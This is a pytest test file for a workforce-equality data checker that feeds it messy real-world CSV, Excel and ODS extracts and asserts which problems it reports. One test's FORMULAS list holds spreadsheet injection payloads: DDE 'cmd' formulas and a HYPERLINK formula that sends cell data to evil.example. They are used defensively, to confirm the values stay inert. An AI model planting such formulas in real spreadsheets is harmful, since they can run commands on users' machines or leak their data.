"""A corpus of inputs as they really come: each with the problems that it shows, placed, and its counts where it can be counted."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest
import xlsxwriter

from openwres.calculation import calculate, check
from openwres.contracts.exceptions import OpenWRESError
from tests.extracts.folders import (
    CODE,
    YEAR,
    Table,
    case,
    cells,
    checked,
    counted,
    counts,
    folder,
    of_id,
    places,
    post,
    staff,
    the,
    workbook,
    written,
)
from tests.extracts.whole import APPLICATIONS
from tests.files.made_workbooks import ods, ods_cell, ods_row

FOUR = {"white": 2, "bme": 2}
TITLES = [["Staff in post"], [], ["as at 31 March 2026"]]
Place = tuple[str, str, str, str, int | None, str]


def without(rows: Table, *columns: str) -> list[dict[str, str]]:
    return [{name: value for name, value in row.items() if name not in columns} for row in rows]


def renamed(rows: Table, **names: str) -> list[dict[str, str]]:
    return [{names.get(name, name): value for name, value in row.items()} for row in rows]


def lines_above(rows: Table) -> str:
    return "".join(",".join(title) + "\n" for title in TITLES) + written(rows)


def as_ods(path: Path, rows: list[list[str]]) -> Path:
    return ods(path, "".join(ods_row("".join(map(ods_cell, row)) or ods_cell("")) for row in rows))


# Text


def test_utf_8_and_windows_letters_in_one_file(tmp_path: Path) -> None:
    """Two exports pasted together: nothing that is coded is lost, and the file is read as what it is not."""
    rows = [row | {"site": "Zoë" if n % 2 else "Café"} for n, row in enumerate(staff())]
    text = written(rows)
    head, tail = text[: len(text) // 2], text[len(text) // 2 :]
    found = counted(folder(tmp_path, staff=head.encode("utf-8") + tail.encode("cp1252")))
    assert places(found) == []
    assert counts(found, "staff") == FOUR
    assert found.read[0]["tables"][0]["encoding"] == "cp1252"


def test_a_code_that_a_wrong_encoding_spoilt_is_told(tmp_path: Path) -> None:
    rows = [*staff(), post("P5", ethnicity="White – British")]
    text = written([row | {"site": "Zoë"} for row in rows])
    content = text.encode("utf-8").replace("ë".encode(), b"\xeb")
    assert places(checked(folder(tmp_path, staff=content))) == [
        ("unmapped-value", "block", "staff.csv", "", 6, "ethnicity")
    ]


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_line_ends_of_every_system(tmp_path: Path, end: str) -> None:
    rows = [*staff(), post("P5", ethnicity="Q")]
    found = checked(folder(tmp_path, staff=written(rows, end=end)))
    assert places(found) == [("unmapped-value", "block", "staff.csv", "", 6, "ethnicity")]


def test_a_mark_in_the_middle_is_left_out(tmp_path: Path) -> None:
    lines = written(staff()).splitlines(keepends=True)
    text = "\ufeff" + "".join(lines[:3]) + "\ufeff" + "".join(lines[3:])
    found = counted(folder(tmp_path, staff=text))
    assert places(found) == [("mended-text", "note", "staff.csv", "", None, "")]
    assert counts(found, "staff") == FOUR


def test_two_files_put_one_behind_the_other_show_the_second_header(tmp_path: Path) -> None:
    found = checked(folder(tmp_path, staff="\ufeff" + written(staff()[:2]) + "\ufeff" + written(staff()[2:])))
    assert ("mended-text", "note", "staff.csv", "", None, "") in places(found)
    assert ("unmapped-value", "block", "staff.csv", "", 4, "ethnicity") in places(found)


def test_a_nul_byte_is_placed(tmp_path: Path) -> None:
    text = written(staff()).encode().replace(b"P3", b"P\x003", 1)
    assert places(checked(folder(tmp_path, staff=text))) == [("unreadable-file", "block", "staff.csv", "", 4, "")]


@pytest.mark.parametrize("content", [b"", b"\n\n \n", b"\xef\xbb\xbf"])
def test_an_empty_file(tmp_path: Path, content: bytes) -> None:
    assert places(checked(folder(tmp_path, staff=content))) == [("unreadable-file", "block", "staff.csv", "", None, "")]


@pytest.mark.parametrize("end", ["\n", ""])
def test_a_header_without_rows(tmp_path: Path, end: str) -> None:
    text = ",".join(post("P1")) + end
    assert places(checked(folder(tmp_path, staff=text))) == [("no-rows", "block", "staff.csv", "", 1, "")]


def test_a_sheet_with_a_header_without_rows(tmp_path: Path) -> None:
    workbook(tmp_path / "staff.xlsx", {"Posts": [list(post("P1"))]})
    assert places(checked(tmp_path)) == [("no-rows", "block", "staff.xlsx", "Posts", 1, "")]


# Columns


def test_missing_columns_are_told_all_at_once(tmp_path: Path) -> None:
    rows = without(staff(), "person", "ethnicity", "grade", "contract")
    assert places(checked(folder(tmp_path, staff=rows))) == [
        ("missing-column", "block", "staff.csv", "", 1, "ethnicity"),
        ("missing-column", "block", "staff.csv", "", 1, "grade"),
        ("missing-column", "block", "staff.csv", "", 1, "person"),
        ("column-absent", "confirm", "staff.csv", "", 1, "contract"),
    ]


def test_renamed_columns_are_found(tmp_path: Path) -> None:
    rows = renamed(
        staff(), person="EMPLOYEE  NO.", ethnicity="Ethnic_Origin", grade="Pay-Scale", contract="Assignment Category"
    )
    found = counted(folder(tmp_path, staff=rows))
    assert (places(found), counts(found, "staff")) == ([], FOUR)


def test_a_column_that_resembles_a_name_is_guessed_and_to_be_confirmed(tmp_path: Path) -> None:
    found = counted(folder(tmp_path, staff=renamed(staff(), ethnicity="Employee Ethnic Origin")))
    assert places(found) == [("guessed-column", "confirm", "staff.csv", "", 1, "Employee Ethnic Origin")]
    assert counts(found, "staff") == FOUR
    assert found.read[0]["tables"][0]["guessed"] == ["ethnicity"]


def test_somebody_elses_column_is_never_guessed(tmp_path: Path) -> None:
    rows = renamed(staff(), person="Manager Employee Number", ethnicity="Previous Ethnic Origin")
    assert {place[0] for place in places(checked(folder(tmp_path, staff=rows)))} == {"missing-column"}


def test_two_columns_that_resemble_are_not_guessed(tmp_path: Path) -> None:
    rows = [row | {"Other Ethnic Origin": "Z"} for row in renamed(staff(), ethnicity="Employee Ethnic Origin")]
    assert places(checked(folder(tmp_path, staff=rows))) == [
        ("missing-column", "block", "staff.csv", "", 1, "ethnicity")
    ]


def test_two_candidates_for_one_column(tmp_path: Path) -> None:
    rows = [row | {"Ethnic Group": "Z"} for row in renamed(staff(), ethnicity="Ethnic Origin")]
    problem = the(checked(folder(tmp_path, staff=rows)), "two-candidates")
    assert (str(problem.severity), problem.file, problem.row, problem.column) == (
        "block",
        "staff.csv",
        1,
        "Ethnic Origin",
    )
    assert "`Ethnic Origin`" in problem.sentence
    assert "`Ethnic Group`" in problem.sentence


# Titles above and totals below


def test_titles_above_the_header_of_a_text_file(tmp_path: Path) -> None:
    found = checked(folder(tmp_path, staff=lines_above([*staff(), post("P5", ethnicity="Q")])))
    assert places(found) == [("unmapped-value", "block", "staff.csv", "", 9, "ethnicity")]
    assert found.read[0]["tables"][0]["header_row"] == 4


def test_titles_above_the_header_of_a_sheet(tmp_path: Path) -> None:
    workbook(tmp_path / "staff.xlsx", {"Posts": [*TITLES, *cells([*staff(), post("P5", ethnicity="Q")])]})
    assert places(checked(tmp_path)) == [("unmapped-value", "block", "staff.xlsx", "Posts", 9, "ethnicity")]


def test_titles_above_the_header_of_an_open_document(tmp_path: Path) -> None:
    as_ods(tmp_path / "staff.ods", [*TITLES, *cells([*staff(), post("P5", ethnicity="Q")])])
    found = checked(tmp_path)
    assert ("unmapped-value", "block", "staff.ods", "Staff", 9, "ethnicity") in places(found)
    assert [place for place in places(found) if place[1] == "block"] == places(found)[:1]


@pytest.mark.parametrize("write", ["csv", "xlsx", "ods"])
def test_titles_above_change_no_count(tmp_path: Path, write: str) -> None:
    rows = [*TITLES, *cells(staff())]
    if write == "csv":
        folder(tmp_path, staff=lines_above(staff()))
    elif write == "xlsx":
        workbook(tmp_path / "staff.xlsx", {"Posts": rows})
    else:
        as_ods(tmp_path / "staff.ods", rows)
    assert counts(counted(tmp_path), "staff") == FOUR


def merged(path: Path, first: int, last: int, column: int, title: bool = False) -> Path:
    """The staff list as a workbook in which the cells of a column are merged over some rows, from 0."""
    rows = [*([["", ""]] if title else []), *cells(staff())]
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet("Posts")
        for number, row in enumerate(rows):
            sheet.write_row(number, 0, row)
        if title:
            sheet.merge_range(0, 0, 0, 5, "Staff in post as at 31 March 2026")
        if last > first:
            sheet.merge_range(first, column, last, column, rows[first][column])
    return path


def test_cells_merged_over_rows_block(tmp_path: Path) -> None:
    merged(tmp_path / "staff.xlsx", 2, 4, list(post("P1")).index("ethnicity"))
    assert ("merged-cells", "block", "staff.xlsx", "Posts", 3, "") in places(checked(tmp_path))


def test_cells_merged_in_a_column_that_nobody_reads_do_not_matter(tmp_path: Path) -> None:
    rows = [{**row, "site": "North"} for row in staff()]
    with xlsxwriter.Workbook(tmp_path / "staff.xlsx") as book:
        sheet = book.add_worksheet("Posts")
        for number, row in enumerate(cells(rows)):
            sheet.write_row(number, 0, row)
        sheet.merge_range(1, len(rows[0]) - 1, 4, len(rows[0]) - 1, "North")
    found = counted(tmp_path)
    assert (places(found), counts(found, "staff")) == ([], FOUR)


def test_a_merged_title_does_not_matter(tmp_path: Path) -> None:
    merged(tmp_path / "staff.xlsx", 0, 0, 0, title=True)
    found = counted(tmp_path)
    assert (places(found), counts(found, "staff")) == ([], FOUR)


def test_a_row_of_totals_in_the_column_of_people(tmp_path: Path) -> None:
    total = dict.fromkeys(post("P1"), "") | {"person": "Total", "assignment": "4", "fte": "4.0"}
    found = counted(folder(tmp_path, staff=[*staff(), total]))
    assert places(found) == [("totals-row", "note", "staff.csv", "", 6, "person")]
    assert counts(found, "staff") == FOUR


def test_a_row_of_totals_in_a_column_that_nobody_reads(tmp_path: Path) -> None:
    rows = [{"directorate": "Medicine", **row} for row in staff()]
    total = dict.fromkeys(rows[0], "") | {"directorate": "Grand Total", "fte": "4.0"}
    found = counted(folder(tmp_path, staff=[*rows, total]))
    assert places(found) == [("totals-row", "note", "staff.csv", "", 6, "person")]
    assert counts(found, "staff") == FOUR


def test_a_person_whose_number_begins_like_a_total_counts(tmp_path: Path) -> None:
    found = counted(folder(tmp_path, staff=[post("TOTALLY-1"), post("Notenough")]))
    assert counts(found, "staff") == {"white": 2}


@pytest.mark.parametrize(
    "last", ["Total,5", "Grand Total: 5", "Report run on 1 April 2026", "Notes: excludes bank", "Filters: none,,"]
)
def test_a_remark_of_few_cells_below_the_list(tmp_path: Path, last: str) -> None:
    found = counted(folder(tmp_path, staff=written(staff()) + "\n" + last + "\n"))
    assert places(found) == [("totals-row", "note", "staff.csv", "", 7, "person")]
    assert counts(found, "staff") == FOUR


def test_full_time_equivalents_are_no_headcount(tmp_path: Path) -> None:
    text = "Ethnic Origin,Headcount\nWhite - British,10.6\nIndian,4\n"
    assert places(checked(folder(tmp_path, staff=text))) == [
        ("fte-for-headcount", "block", "staff.csv", "", 2, "Headcount")
    ]


# People


def test_a_person_listed_twice(tmp_path: Path) -> None:
    found = checked(folder(tmp_path, staff=[*staff(), post("P2", ethnicity="B", grade="6")]))
    assert places(found) == [("duplicate-person", "block", "staff.csv", "", 6, "person")]


def test_a_person_in_two_grades_is_counted_once_in_the_higher(tmp_path: Path) -> None:
    rows = [*staff(), post("P1", assignment="P1-2", grade="8a")]
    found = counted(folder(tmp_path, staff=rows))
    assert places(found) == [("person-in-two-grades", "confirm", "staff.csv", "", 2, "grade")]
    assert counts(found, "staff") == FOUR
    assert counts(found, "staff", breakdown="grade")["clinical-8a"] == 1


def test_a_person_with_two_primary_posts(tmp_path: Path) -> None:
    rows = [row | {"primary": "Yes"} for row in [*staff(), post("P1", assignment="P1-2", grade="6")]]
    found = counted(folder(tmp_path, staff=rows))
    assert places(found) == [("two-primary-posts", "confirm", "staff.csv", "", 2, "primary")]
    assert counts(found, "staff") == FOUR


def test_somebody_appointed_without_having_been_shortlisted(tmp_path: Path) -> None:
    odd = {"application": "A9", "ethnicity": "A", "grade": "clinical-5", "source": "internal", "stage": "",
           "shortlisted": "no", "appointed": "yes"}  # fmt: skip
    found = counted(folder(tmp_path, applicants=[odd | {"application": "A1", "shortlisted": "yes"}, odd]))
    of_file = [place for place in places(found) if place[2]]
    assert of_file == [("appointed-not-shortlisted", "confirm", "applicants.csv", "", 3, "shortlisted")]
    assert (counts(found, "shortlisted"), counts(found, "appointed")) == ({"white": 1}, {"white": 2})


# Dates


def dated(*days: str) -> list[dict[str, str]]:
    return [case(f"C{n}", f"P{n % 4 + 1}", investigation_commissioned=day) for n, day in enumerate(days)]


def test_dates_in_three_forms_and_as_serial_numbers(tmp_path: Path) -> None:
    found = counted(folder(tmp_path, cases=dated("2025-06-01", "01/07/2025", "1 Aug 2025", "45901")))
    assert places(found) == [("dates-in-several-forms", "note", "cases.csv", "", 1, "investigation_commissioned")]
    assert counts(found, "disciplined", "one-year") == FOUR


def test_a_month_before_the_day_blocks(tmp_path: Path) -> None:
    found = checked(folder(tmp_path, cases=dated("2025-06-01", "06/13/2025")))
    assert places(found)[0] == ("month-first", "block", "cases.csv", "", 3, "investigation_commissioned")
    assert {place[1] for place in places(found)[1:]} == {"confirm"}


def test_the_end_of_time_of_the_staff_record(tmp_path: Path) -> None:
    found = counted(folder(tmp_path, staff=[row | {"end_date": "31-DEC-4712"} for row in staff()]))
    assert (places(found), counts(found, "staff")) == ([], FOUR)


def test_a_date_in_2062(tmp_path: Path) -> None:
    found = counted(folder(tmp_path, staff=[*staff()[:3], post("P4", ethnicity="N", start_date="2062-02-01")]))
    assert places(found) == [("date-far-off", "confirm", "staff.csv", "", 5, "start_date")]


def test_a_year_that_has_no_edition_is_refused(tmp_path: Path) -> None:
    with pytest.raises(OpenWRESError, match="2062"):
        check(folder(tmp_path), year=2062, organisation=CODE)


LAST = ["31 March 2025", "31st March 2025", "31/03/2025", "31.03.25", "2025-03-31", "31-Mar-2025"]


@pytest.mark.parametrize("day", LAST)
def test_a_title_of_another_year_blocks(tmp_path: Path, day: str) -> None:
    found = checked(folder(tmp_path, staff=f"Staff in post\nas at {day}\n" + written(staff())))
    assert places(found) == [("wrong-period", "block", "staff.csv", "", 2, "")]


@pytest.mark.parametrize("day", ["31 March 2025", "31.03.2025", "31-Mar-25"])
def test_a_sheet_named_by_another_year_blocks(tmp_path: Path, day: str) -> None:
    workbook(tmp_path / "staff.xlsx", {f"Staff {day}": cells(staff())})
    assert places(checked(tmp_path)) == [("wrong-period", "block", "staff.xlsx", f"Staff {day}", 1, "")]


@pytest.mark.parametrize(
    "day", ["31 March 2025", "31.03.2025", "2025-03-31", "31_March_2025", "31_03_2025", "20250331", "31-03-2025_v2"]
)
def test_a_file_named_by_another_year_blocks(tmp_path: Path, day: str) -> None:
    tmp_path.joinpath(f"staff {day}.csv").write_text(written(staff()), encoding="utf-8")
    assert places(checked(tmp_path)) == [("wrong-period", "block", f"staff {day}.csv", "", 1, "")]


def test_labels_of_this_year_and_of_other_days_do_not_matter(tmp_path: Path) -> None:
    text = "From 31 March 2025 to 31 March 2026\nprinted on 1 April 2025\n" + written(staff())
    found = counted(folder(tmp_path, staff=text))
    assert (places(found), counts(found, "staff")) == ([], FOUR)


# Files


def test_a_register_that_does_not_know_the_organisation(tmp_path: Path, project_root: Path) -> None:
    register = project_root / "examples" / "register"
    found = check(folder(tmp_path), year=YEAR, organisation="XX9", register=register)
    problem = the(found, "organisation-unknown")
    assert (str(problem.severity), problem.file, problem.column) == ("block", tmp_path.name, "organisation")


@pytest.mark.parametrize("name", ["my extracts", "extracts [2026]", "extracts*", "Büro & Söhne's"])
def test_folders_of_every_name(tmp_path: Path, name: str) -> None:
    found = counted(folder(tmp_path / name, **{"staff list [final] 1.csv": staff()}))
    assert counts(found, "staff") == FOUR
    assert {entry["file"] for entry in found.read} == {"staff list [final] 1.csv", "staff.csv"}


def test_a_workbook_that_is_open_in_another_program(tmp_path: Path) -> None:
    workbook(tmp_path / "staff.xlsx", {"Posts": cells(staff())})
    (tmp_path / "~$staff.xlsx").write_bytes(b"\x05owner" + b" " * 159)
    found = counted(tmp_path)
    assert places(found) == [("open-elsewhere", "note", "staff.xlsx", "", None, "")]
    assert counts(found, "staff") == FOUR


@pytest.mark.skipif(os.name == "nt", reason="the rights of a file are said otherwise there")
@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0, reason="root may read everything")
def test_a_file_that_may_not_be_read(tmp_path: Path) -> None:
    folder(tmp_path)
    (tmp_path / "staff.csv").chmod(0)
    assert places(checked(tmp_path)) == [("unreadable-file", "block", "staff.csv", "", None, "")]


def test_a_page_with_the_name_of_a_workbook(tmp_path: Path) -> None:
    page = "<html><body><table><tr><th>person</th></tr></table></body></html>"
    (tmp_path / "staff.xls").write_text(page, encoding="utf-8")
    assert places(checked(tmp_path)) == [("unreadable-file", "block", "staff.xls", "", None, "")]


def test_a_workbook_with_the_name_of_a_text(tmp_path: Path) -> None:
    workbook(tmp_path / "book.xlsx", {"Posts": cells(staff())}).rename(tmp_path / "staff.csv")
    found = counted(tmp_path)
    assert (places(found), counts(found, "staff")) == ([], FOUR)


@pytest.mark.slow
def test_a_workbook_that_declares_gigabytes_is_refused(tmp_path: Path) -> None:
    path = workbook(tmp_path / "staff.xlsx", {"Posts": cells(staff())})
    with path.open("r+b") as file:
        file.truncate(600 << 20)  # sparse: nothing is written
    assert places(checked(tmp_path)) == [("unreadable-file", "block", "staff.xlsx", "", None, "")]


FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_coded_column_is_text_and_not_repeated(tmp_path: Path, formula: str) -> None:
    rows = [*staff(), post("P5", ethnicity=formula, contract=formula, status=formula, primary=formula)]
    found = checked(folder(tmp_path / "text", staff=rows))
    assert places(found) == [
        ("unmapped-value", "block", "staff.csv", "", 6, column)
        for column in ("contract", "ethnicity", "primary", "status")
    ]
    assert not any(formula[:8] in f"{p.sentence}{p.remedy}{p.column}" for p in found.problems)
    with xlsxwriter.Workbook(tmp_path / "staff.xlsx", {"strings_to_formulas": False}) as book:
        sheet = book.add_worksheet("Posts")
        for number, row in enumerate(cells(rows)):
            sheet.write_row(number, 0, row)
    assert of_id(checked(tmp_path / "staff.xlsx"), "unmapped-value")[0].row == 6


def test_a_formula_as_a_header_is_not_read(tmp_path: Path) -> None:
    rows = [row | {"=cmd|' /C calc'!A0": "x"} for row in staff()]
    found = counted(folder(tmp_path, staff=rows))
    assert (places(found), counts(found, "staff")) == ([], FOUR)


def digests(root: Path) -> dict[str, tuple[str, int]]:
    return {
        str(p): (hashlib.sha256(p.read_bytes()).hexdigest(), p.stat().st_mtime_ns)
        for p in root.rglob("*")
        if p.is_file()
    }


def test_many_of_them_in_one_folder_are_told_at_once_and_nothing_is_touched(tmp_path: Path) -> None:
    files: dict[str, str | bytes | Table] = {
        "staff 31 March 2025": "Staff\n\n\n" + written(renamed(staff(), ethnicity="Employee Ethnic Origin")),
        "staff": written([post("P9", ethnicity="Q"), post("P9", ethnicity="Q")], end="\r\n").encode("utf-16"),
        "applicants": without(APPLICATIONS, "ethnicity"), "cases": dated("06/13/2025", "2025-06-01"), "learning": b"",
        "board": b"person,ethnicity,voting,executive\nB1,A,yes,y\x00es\n", "survey.csv": "<html><table></table></html>",
    }  # fmt: skip
    given = folder(tmp_path / "my [messy] extracts", **files)
    workbook(given / "population.xlsx", {"Residents": [["ethnicity", "people"], ["A", "1.5"]]})
    before = digests(given)
    found = checked(given)
    wanted = {
        ("wrong-period", "staff 31 March 2025.csv", 1), ("guessed-column", "staff 31 March 2025.csv", 4),
        ("unmapped-value", "staff.csv", 2), ("duplicate-person", "staff.csv", 3),
        ("missing-column", "applicants.csv", 1), ("month-first", "cases.csv", 2), ("unreadable-file", "learning.csv", None),
        ("unreadable-file", "board.csv", 2), ("unreadable-file", "survey.csv", None), ("not-readable", "population.xlsx", 2),
    }  # fmt: skip
    assert wanted <= {(place[0], place[2], place[4]) for place in places(found)}
    with pytest.raises(OpenWRESError) as caught:
        calculate(given, year=YEAR, organisation=CODE)
    assert "must be put right" in str(caught.value)
    assert digests(given) == before
